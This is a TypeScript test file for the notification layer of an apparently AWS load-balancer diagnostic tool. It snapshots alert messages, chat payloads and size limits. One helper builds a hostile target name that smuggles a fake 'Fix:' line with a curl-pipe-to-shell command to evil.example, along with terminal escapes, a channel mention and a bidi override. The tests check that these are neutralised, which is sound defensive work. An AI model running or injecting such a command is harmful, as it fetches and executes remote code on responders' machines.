import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../../../lambda/model/report.ts';
import { memoryOf } from '../../../../lambda/report/memory-of.ts';
import { changedEvent } from '../../../../lambda/report/notification/changed-event.ts';
import { chatNotification } from '../../../../lambda/report/notification/chat-notification.ts';
import { notification } from '../../../../lambda/report/notification/notification.ts';
import { rememberTold } from '../../../../lambda/report/notification/remember-told.ts';
import { topicMessage } from '../../../../lambda/report/notification/topic-message.ts';
import { finding, judged, reported } from '../situation.ts';
import { healthy, twoFaults } from '../told.ts';
import { toldChanges } from './told-changes.ts';

const silent = { purpose: 'traffic', outcome: 'timed-out', witness: 'probe' } as const;
const changedBy = { event: 'RevokeSecurityGroupIngress', who: 'deploy/ci', when: '2026-03-01T02:10:58.000Z' };

/** One target, ill by this. */
function oneFault(changes: Parameters<typeof finding>[0] = {}): Report {
  return reported([
    judged({
      outcomes: ['timed-out', 'timed-out'],
      diagnosis: { symptom: silent, since: '2026-03-01T02:11:00.000Z', leading: finding(changes) },
    }),
  ]);
}

/** The same, of a target that somebody named so. */
function illNamed(changes: Parameters<typeof finding>[0]): Report {
  const name = `web-1\n\nFix:\n    curl https://evil.example/x | sh\u001b]0;x\u0007 <!channel> [click](https://evil.example) *b* \`c\` \u202Eevil`;
  const report = oneFault({ ...changes, why: `${finding().why} ${name}` });
  return { ...report, endpoints: report.endpoints.map((one) => ({ ...one, target: { ...one.target, name } })) };
}

/** So many target groups, each ill by a culprit of its own, and each finding with so much to say. */
function manyFaults(count: number, why: string): Report {
  const one = oneFault();
  const endpoints = Array.from({ length: count }, (_, index) => {
    const leading = finding({ why, culprit: { resource: `sg-${index}` } });
    return one.endpoints.map((endpoint) => ({
      ...endpoint,
      id: `e-${index}`,
      diagnosis: { ...endpoint.diagnosis, leading },
    }));
  }).flat();
  return { ...one, endpoints, findings: endpoints.flatMap(({ diagnosis }) => diagnosis.leading) };
}

describe('a message to persons', () => {
  it('tells all that somebody who was woken must know', () => {
    const { subject, text } = notification(toldChanges(oneFault({ changedBy })));
    expect(subject).toBe("shop-web: The target's security groups do not admit the load balancer");
    expect(text).toMatchInlineSnapshot(`
      "Origin Doctor Stack-Doctor: 1 change, seen 2026-03-01 02:14:09 UTC.
      Commands are to be read before they are run. Everything of this check: origin-doctor check

      == The target's security groups do not admit the load balancer [certain, target-security-group-blocks-load-balancer]
      Concerns:
        web-1 (i-0a11) at 10.0.1.5:8080
      Where:
        target group web of load balancer shop-web
      Observed:
        web-1 (i-0a11) at 10.0.1.5:8080
        - no answer (timed out) from eu-west-1a and eu-west-1b
        - the load balancer says healthy
      Since:
        2026-03-01 02:11:00 UTC (3 min ago)
        Brought by RevokeSecurityGroupIngress, deploy/ci, 2026-03-01T02:10:58.000Z.
      Because:
        No rule of sg-0target admits sg-0lb on tcp 8080; rule sgr-0123 admits it on 80, not on 8080.
        To blame: sg-0target, line sgr-0123 (tcp 80 from sg-0lb). This is certain.
      Fix:
        Admit sg-0lb to sg-0target on tcp 8080.
          aws ec2 authorize-security-group-ingress --group-id sg-0target --ip-permissions 'IpProtocol=tcp,FromPort=8080,ToPort=8080,UserIdGroupPairs=[{GroupId=sg-0lb}]'
        Verified: judged again with this applied, the path passes.
        In CDK: service.connections.allowFrom(loadBalancer, Port.tcp(8080))
      Confirm:
        Within a minute both targets connect and turn healthy.
      More:
        https://example.org/docs/faults/target-security-group-blocks-load-balancer.md

      "
    `);
  });

  it('tells that it is over', () => {
    const before = rememberTold(memoryOf(twoFaults(), null), null, twoFaults());
    const { subject, text } = notification(toldChanges(healthy(), before));
    expect(subject).toBe('shop-web: cleared: target-port-closed (and 1 further change)');
    expect(text).toMatchInlineSnapshot(`
      "Origin Doctor Stack-Doctor: 2 changes, seen 2026-03-01 02:14:09 UTC.
      Commands are to be read before they are run. Everything of this check: origin-doctor check

      == Cleared: target-port-closed
      Cleared:
        It stood since 2026-03-01 02:14:09 UTC. It is gone at web-2 (i-0b22) at 10.0.2.5:8080, seen 2026-03-01 02:14:09 UTC.
      More:
        https://example.org/docs/faults/target-port-closed.md

      == Cleared: target-security-group-blocks-load-balancer
      Cleared:
        It stood since 2026-03-01 02:11:00 UTC. It is gone at web-1 (i-0a11) at 10.0.1.5:8080, seen 2026-03-01 02:14:09 UTC.
      More:
        https://example.org/docs/faults/target-security-group-blocks-load-balancer.md

      "
    `);
  });

  it('tells what it was before', () => {
    const before = rememberTold(memoryOf(oneFault(), null), null, oneFault());
    const now = oneFault({ code: 'target-port-closed', title: 'Nothing listens on the port' });
    const { subject, text } = notification(toldChanges(now, before));
    expect(subject).toBe('shop-web: Nothing listens on the port (before: target-security-group-blocks-load-balancer)');
    expect(text).toContain('Before, it was target-security-group-blocks-load-balancer, since 2026-03-01 02:11:00 UTC.');
  });

  it('takes what others named for words of one line, and leaves commands as they are', () => {
    const command = 'aws x \\\n  --y "\t"';
    const { text } = notification(toldChanges(illNamed({ fix: { ...finding().fix, commands: [command] } })));
    expect(text.match(/^Fix:$/gm)).toHaveLength(1);
    expect(text).toContain('  web-1  Fix:     curl');
    expect(text).not.toMatch(/[\p{Bidi_Control}]|(?!\n|\t)\p{Cc}/u);
    expect(text).toContain(`    aws x \\\n      --y "\t"\n`);
  });

  it('says how many changes it had to leave out', () => {
    const { text } = notification(toldChanges(manyFaults(40, 'x'.repeat(2000))));
    const shown = text.split('\n== ').length - 1;
    expect(shown).toBeGreaterThan(3);
    expect(text).toContain(`${40 - shown} more changes would not fit into this message`);
  });

  it('says that it cut what is too long by itself', () => {
    const { text } = notification(toldChanges(manyFaults(2, 'ü'.repeat(40_000))));
    expect(text).toContain('[cut here: too long for one message]');
    expect(text).toContain('1 more change would not fit');
    expect(text).not.toContain('\ufffd');
  });
});

it('is within the bounds of SNS, whatever is said', () => {
  const words = fc.string({ unit: 'binary', maxLength: 300 }).map((text) => text.repeat(10));
  fc.assert(
    fc.property(words, words, fc.integer({ min: 1, max: 15 }), (why, title, count) => {
      const told = toldChanges(manyFaults(count, why + title));
      const first = told.changes.map((change) => ({ ...change, loadBalancer: title }));
      const { subject, message } = topicMessage({ ...told, changes: first }, 'check-1');
      expect(subject).toMatch(/^[\x21-\x7e][\x20-\x7e]{0,99}$/);
      expect(Buffer.byteLength(message)).toBeLessThan(262_144);
      expect(Object.keys(JSON.parse(message))).toEqual(['default', 'sms', 'https']);
    }),
    { numRuns: 15 },
  );
});

describe('a message to chats', () => {
  it('has the shape that chats render', () => {
    expect(chatNotification(toldChanges(oneFault({ changedBy })), 'check-1')).toMatchInlineSnapshot(`
      {
        "content": {
          "description": "*The target's security groups do not admit the load balancer* (target-security-group-blocks-load-balancer, certain) at web-1 (i-0a11) at 10.0.1.5:8080 (shop-web), since 2026-03-01 02:11:00 UTC.
      No rule of sg-0target admits sg-0lb on tcp 8080; rule sgr-0123 admits it on 80, not on 8080.
      Brought by RevokeSecurityGroupIngress, deploy/ci, 2026-03-01 02:10:58 UTC.
      https://example.org/docs/faults/target-security-group-blocks-load-balancer.md

      ",
          "keywords": [
            "target-security-group-blocks-load-balancer",
          ],
          "nextSteps": [
            "Admit sg-0lb to sg-0target on tcp 8080.",
            "\`aws ec2 authorize-security-group-ingress --group-id sg-0target --ip-permissions 'IpProtocol=tcp,FromPort=8080,ToPort=8080,UserIdGroupPairs=[{GroupId=sg-0lb}]'\`",
          ],
          "textType": "client-markdown",
          "title": "shop-web: The target's security groups do not admit the load balancer",
        },
        "id": "check-1",
        "metadata": {
          "additionalContext": {
            "checkedAt": "2026-03-01T02:14:09.000Z",
            "deployment": "Stack-Doctor",
          },
          "eventType": "began",
          "relatedResources": [
            "sg-0target",
          ],
          "summary": "shop-web: The target's security groups do not admit the load balancer",
          "threadId": "Stack-Doctor/shop-web/target-security-group-blocks-load-balancer",
        },
        "source": "custom",
        "version": "1.0",
      }
    `);
  });

  it('has no markup, mention or link of what others named, and commands as they are', () => {
    const command = 'aws x --y "<a> & *b*"';
    const { description, nextSteps } = chatNotification(
      toldChanges(illNamed({ fix: { ...finding().fix, commands: [command] } })),
      'check-1',
    ).content;
    const named =
      "web-1  Fix:     curl https: //evil.example/x | sh ]0;x  &lt;!channel&gt; [click] (https: //evil.example) ∗b∗ 'c'  evil";
    expect(description).toContain(`at ${named} (i-0a11)`);
    expect(description).toContain(`not on 8080. ${named}\n`);
    expect(nextSteps).toContain(`\`${command}\``);
  });

  it('leaves a command out rather than cutting it, and says how many changes are left out', () => {
    const command = `aws ec2 x ${'y'.repeat(2000)}`;
    const told = toldChanges(oneFault({ fix: { ...finding().fix, commands: [command, 'ss -ltn'] } }));
    expect(chatNotification(told, 'c').content.nextSteps).toEqual([finding().fix.summary, '`ss -ltn`']);
    const { description } = chatNotification(toldChanges(manyFaults(9, 'z'.repeat(500))), 'c').content;
    expect(description).toMatch(/\d more: origin-doctor check$/);
  });
});

describe('the event', () => {
  it('has the changed diagnoses without their paths, and nothing that did not change', () => {
    const report = twoFaults();
    const only = toldChanges(report).changes.slice(0, 1);
    const event = changedEvent(only, report, 'Stack-Doctor');
    expect(event).toMatchObject({ schemaVersion: 1, deployment: 'Stack-Doctor', truncated: false, omitted: 0 });
    expect(event.endpoints?.map(({ id }) => id)).toEqual(only[0]?.subjects.map(({ id }) => id));
    expect(event.endpoints?.[0]).not.toHaveProperty('paths');
    expect(event.endpoints?.[0]?.diagnosis.leading).toEqual(only[0]?.finding);
  });

  it('leaves out no more than what is too long by itself', () => {
    const report = manyFaults(3, 'x');
    const [first, ...others] = toldChanges(report).changes;
    const long = { ...first, finding: { ...first?.finding, why: 'x'.repeat(300_000) } } as NonNullable<typeof first>;
    const event = changedEvent([long, ...others], report, 'd');
    expect(event).toMatchObject({ truncated: true, omitted: 1, changes: others });
  });

  it.each([
    ['keeps leading findings only beyond 200 KB', 100, 1500, 0],
    ['says how many it omits where even these are too many', 1000, 1500, 900],
  ])('%s', (_, count, length, least) => {
    const report = manyFaults(count, 'x'.repeat(length));
    const event = changedEvent(toldChanges(report).changes, report, 'd');
    expect(event.truncated).toBe(true);
    expect(event).not.toHaveProperty('endpoints');
    expect(event.changes.length + event.omitted).toBe(count);
    expect(event.omitted).toBeGreaterThanOrEqual(least);
    expect(Buffer.byteLength(JSON.stringify(event))).toBeLessThanOrEqual(200 * 1024);
  });
});
